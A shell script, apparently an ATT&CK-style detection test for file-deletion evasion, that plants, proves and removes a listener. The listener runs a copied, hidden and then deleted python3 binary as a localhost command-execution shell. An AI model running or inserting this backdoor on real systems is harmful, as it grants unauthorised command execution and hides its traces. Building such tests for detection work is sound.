#!/bin/sh
# T1070.004 (loud): A program that listens and was deleted from /dev/shm
M=/var/tmp/luytre-foothold N=44-deleted-binary
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
bg() { setsid nohup "$@" </dev/null >/dev/null 2>&1 & sleep 1; }
ends() { for p in $(pgrep -f -- "$1"); do [ "$p" = $$ ] || kill -9 "$p"; done 2>/dev/null; }
ask() { python3 -c 'import socket, sys
import time
for n in range(20):
    try: s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5); break
    except OSError: time.sleep(0.25)
s.settimeout(5); s.sendall((sys.argv[2] + "\n").encode()); s.shutdown(1); d = b""
while True:
    try: b = s.recv(999)
    except OSError: break
    if not b: break
    d += b
print(d.decode("utf-8", "replace"))' "$1" "$2"; }
plant() {
cp "$(readlink -f /usr/bin/python3)" /dev/shm/.x86
bg /dev/shm/.x86 -c '
import socket,subprocess
s=socket.socket();s.setsockopt(1,2,1);s.bind(("127.0.0.1",47044));s.listen()
while 1:
    c,_=s.accept();c.sendall(subprocess.run(c.recv(999).decode(),shell=True,capture_output=True).stdout);c.close()
'
rm -f /dev/shm/.x86
}
prove() {
  rm -f "$M/$N"
  ask 47044 "id > /var/tmp/luytre-foothold/44-deleted-binary"; seen
}
remove() {
  ends /dev/shm/.x86
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
